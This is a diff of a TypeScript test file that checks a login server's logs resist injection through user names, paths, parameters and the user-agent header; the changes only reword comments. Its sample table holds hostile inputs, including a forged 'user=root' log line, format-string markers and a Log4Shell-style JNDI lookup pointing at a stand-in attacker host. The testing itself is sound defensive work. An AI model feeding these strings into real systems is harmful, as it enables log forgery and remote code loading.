@@ -5,7 +5,7 @@ import { openForm } from "#tests/http/login/open-form.ts";
 import { createRelyingParty, type RelyingParty } from "#tests/support/relying-party.ts";
 import { startServer, type TestServer } from "#tests/support/server.ts";
 
-/** What would make a second line, a false one, or a terminal do something. */
+/** Text that could forge a log line or control a terminal. */
 const HOSTILE: Readonly<Record<string, string>> = {
   "a line break": "anna\n2026-03-02 sign-in.succeeded user=root",
   "a carriage return": "anna\r\rsign-in.succeeded",
@@ -22,7 +22,7 @@ const HOSTILE: Readonly<Record<string, string>> = {
   "marks of a format": `%s%n%x \${jndi:ldap://evil.example/a} {{7*7}}`,
 };
 
-// biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for.
+// biome-ignore lint/suspicious/noControlCharactersInRegex: the test searches for control characters.
 const RAW = /[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069\u200b\ufeff]/;
 
 let server: TestServer;
@@ -42,14 +42,14 @@ beforeEach(() => {
 
 const since = () => server.lines().slice(line);
 
-/** Every text in a line, however deep. */
+/** Returns every string in a log line, at any depth. */
 function textsIn(value: unknown): string[] {
   if (typeof value === "string") return [value];
   if (typeof value !== "object" || value === null) return [];
   return Object.entries(value).flatMap(([name, inner]) => [name, ...textsIn(inner)]);
 }
 
-/** As they would stand in the file: one line each. */
+/** Expects one plain line per event, as in the log file. */
 function expectPlainLines() {
   const written: string[] = [];
   const sink = new Writable({ write: (chunk, _encoding, done) => done(void written.push(String(chunk))) });
@@ -72,7 +72,7 @@ describe.each(Object.entries(HOSTILE))("%s", (_what, value) => {
   test("as a browser's name of itself, a path or a parameter is written so that it does nothing", async () => {
     const browser = server.browser();
     const form = await openForm(browser, party.request().url);
-    // A header takes no line break, but a terminal's commands of one byte.
+    // A header cannot contain line breaks, but it can contain single-byte terminal commands.
     const userAgent = value.replaceAll(/[^\t\x20-\x7e\x80-\xff]/g, "?").slice(0, 5_000);
     await form.post({ username: "anna", password: "x" }, { headers: { "user-agent": userAgent } });
     const text = /\p{Surrogate}/u.test(value) ? "half" : value;
